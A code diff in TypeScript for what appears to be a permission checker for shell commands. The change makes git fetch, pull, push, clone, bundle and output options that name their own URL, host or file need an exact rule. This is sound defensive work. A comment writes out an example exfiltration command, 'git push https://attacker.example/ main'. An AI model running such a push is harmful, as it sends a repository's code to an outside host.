@@ -67,6 +67,65 @@ const CODE_SHORT_OPTIONS: Record<string, string> = {
 /** Subcommand words after which the rest is a command to run. */
 const CODE_ACTIONS: Record<string, string> = { bisect: 'run', submodule: 'foreach' };
 
+/** Subcommands that talk to a remote: fine with the remotes the repository has, not with a place the command names. */
+const NETWORK_SUBCOMMANDS = new Set(['fetch', 'pull', 'push', 'ls-remote']);
+
+/** Their options whose value is the next word (`--depth 1`), skipped when looking for the repository argument. */
+const VALUE_OPTIONS = new Set([
+  '--depth', '--deepen', '--shallow-since', '--shallow-exclude', '-j', '--jobs', '-o', '--push-option', '--server-option',
+  '--negotiation-tip', '--refmap', '--filter', '--recurse-submodules-default',
+]);
+
+/** Options naming the remote to use instead of a configured one. */
+const REMOTE_OPTIONS = ['--repo', '--remote'];
+
+/** A URL, a path or `host:path` / `user@host:path` (scp-style ssh): a place, not the name of a remote. */
+const LOCATION = /:\/\/|^(?:\/|~|\.\.?(?:\/|$)|file:)|^[^\s/:]*@[^\s/]*:/;
+
+/** `remote` and `submodule` actions that are only reading (others add or change where git fetches from). */
+const READING_ACTIONS: Record<string, readonly string[]> = {
+  remote: ['show', 'get-url', 'prune', 'update', 'rename', 'remove', 'rm', 'set-head', 'set-branches', '-v', '--verbose'],
+  submodule: ['status', 'summary'],
+};
+
+/** Options that write their output to a file the command names. */
+const OUTPUT_OPTIONS = ['--output', '--output-directory'];
+const OUTPUT_SHORT: Record<string, string> = { 'format-patch': 'o', archive: 'o' };
+
+/**
+ * Why only an exact rule covers a call that sends to, fetches from or writes to a place the command names (a rule
+ * for `git` would otherwise cover `git push https://attacker.example/ main`); undefined when a `git` rule may.
+ */
+function placeProblem(sub: string, args: readonly string[]): Uncovered | undefined {
+  const shown = `git ${sub}`;
+  if (sub === 'clone' || sub === 'bundle') return uncovered(sub === 'clone' ? 'network' : 'writes_file', shown);
+  for (const arg of args) {
+    if (arg === '--') break;
+    if (OUTPUT_OPTIONS.some((o) => arg === o || arg.startsWith(`${o}=`))) return uncovered('writes_file', `${shown} ${arg}`);
+    if (shortLetters(arg).some((c) => OUTPUT_SHORT[sub]?.includes(c))) return uncovered('writes_file', `${shown} ${arg}`);
+    if (REMOTE_OPTIONS.some((o) => arg === o || arg.startsWith(`${o}=`))) return uncovered('network', `${shown} ${arg}`);
+  }
+  const action = args.find((a) => !a.startsWith('-') || a === '-v' || a === '--verbose');
+  if (sub in READING_ACTIONS) {
+    return action === undefined || READING_ACTIONS[sub]!.includes(action) ? undefined : uncovered('network', `${shown} ${action}`);
+  }
+  if (!NETWORK_SUBCOMMANDS.has(sub)) return undefined;
+  let repository: string | undefined;
+  for (let i = 0; i < args.length; i++) {
+    const arg = args[i]!;
+    if (arg === '--') break;
+    if (VALUE_OPTIONS.has(arg)) {
+      i++;
+      continue;
+    }
+    if (arg.startsWith('-')) continue;
+    // the first word is the repository (a remote's name; a ':' makes it host:path), later ones refspecs
+    if (LOCATION.test(arg) || (repository === undefined && arg.includes(':'))) return uncovered('network', `${shown} ${arg}`);
+    repository ??= arg;
+  }
+  return undefined;
+}
+
 /** The option letters of a short-option word: `-ix` → i, x; `-O"cmd"` → O, c, m, d (a value may follow a letter). */
 export function shortLetters(arg: string): string[] {
   return /^-[A-Za-z]/.test(arg) ? [.../^-([A-Za-z]+)/.exec(arg)![1]!] : [];
@@ -76,7 +135,10 @@ function longOption(arg: string): string | undefined {
   return CODE_LONG_OPTIONS.find((o) => arg === o || arg.startsWith(`${o}=`));
 }
 
-/** undefined when a rule for `git` may cover this call; else why not. `argv[0]` is `git`. */
+/**
+ * undefined when a rule for `git` may cover this call; else why not: a never-covered code (code-running options,
+ * aliases) or one only an exact rule covers (a place named to send to, fetch from or write to). `argv[0]` is `git`.
+ */
 export function gitProblem(argv: readonly string[]): Uncovered | undefined {
   let i = 1;
   for (; i < argv.length && argv[i]!.startsWith('-'); i++) {
@@ -98,5 +160,5 @@ export function gitProblem(argv: readonly string[]): Uncovered | undefined {
   if (CODE_ACTIONS[sub] !== undefined && argv.slice(i + 1).includes(CODE_ACTIONS[sub])) {
     return uncovered('code_option', `git ${sub} ${CODE_ACTIONS[sub]}`);
   }
-  return undefined;
+  return placeProblem(sub, argv.slice(i + 1));
 }
